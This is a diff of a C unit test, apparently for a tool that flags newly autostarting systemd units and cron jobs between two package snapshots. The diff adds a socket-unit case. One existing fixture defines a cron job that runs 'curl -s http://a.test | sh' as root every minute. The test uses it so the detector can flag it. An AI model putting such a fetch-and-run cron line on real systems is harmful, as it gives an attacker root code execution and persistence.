@@ -280,11 +280,14 @@ Test(compare_service, what_newly_starts)
     struct packed moved = {"lib/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/x -a\n", 0, 0};
     struct packed option = {"usr/lib/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/x -b\n", 0, 0};
     struct packed other = {"usr/lib/systemd/system/x.service", "[Service]\nExecStart=/tmp/y\n", 0, 0};
+    struct packed waits = {"usr/lib/systemd/system/x-more.socket", "[Socket]\nListenStream=1\nService=x.service\n", 0,
+                           0};
     struct packed job = {"etc/cron.d/x", "* * * * * root curl -s http://a.test | sh\n", 0, 0};
     EXPECT_TOLD(PAIR(none), PAIR(none, unit), "diff.autostart", "diff.autostart 28 x.service\n");
     EXPECT_TOLD(PAIR(none, moved), PAIR(none, unit), "diff.autostart", "");
     EXPECT_TOLD(PAIR(none, unit), PAIR(none, option), "diff.autostart", "diff.autostart 8 x.service\n");
     EXPECT_TOLD(PAIR(none, unit), PAIR(none, other), "diff.autostart", "diff.autostart 45 x.service\n");
+    EXPECT_TOLD(PAIR(none, unit), PAIR(none, unit, waits), "diff.autostart", "diff.autostart 10 x-more.socket\n");
     EXPECT_TOLD(PAIR(none), PAIR(none, job), "diff.autostart", "diff.autostart 45 x\n");
 }
 
